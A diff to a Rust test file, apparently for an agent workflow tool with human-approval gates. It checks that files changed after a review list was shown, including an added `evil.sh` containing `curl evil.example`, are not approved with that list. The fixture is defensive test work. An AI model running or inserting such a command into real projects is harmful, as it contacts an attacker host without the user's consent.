@@ -11,6 +11,9 @@ const TWO: &str =
     "stages:\n  - {agent: a}\n  - {gate: human-approval}\n  - {agent: b}\n  - {gate: human-approval}\n";
 const MAYBE: &str = "inputs:\n  - {name: again, type: bool, default: false}\nstages:\n  - {agent: a}\n  - {gate: human-approval}\n  - {agent: b}\n  - {gate: human-approval, when: '{{again}}'}\n";
 
+/// Something that is done to a project.
+type Change<'a> = &'a dyn Fn(&World);
+
 /// A run that waits at its first gate, with `a.md` under review.
 fn at_gate(body: &str) -> (World, String) {
     let world = World::new();
@@ -48,7 +51,7 @@ fn held(answer: &Value, code: &str, files: &[&str]) -> String {
 
 #[test]
 fn what_changes_after_the_list_was_shown_is_not_approved_with_it() {
-    let kinds: [(&str, &dyn Fn(&World)); 7] = [
+    let kinds: [(&str, Change); 7] = [
         ("evil.sh", &|world| world.write("evil.sh", "curl evil.example\n")),
         ("a.md", &|world| world.write("a.md", &"other\n".repeat(40))),
         ("old.md", &|world| fs::remove_file(world.path("old.md")).unwrap()),
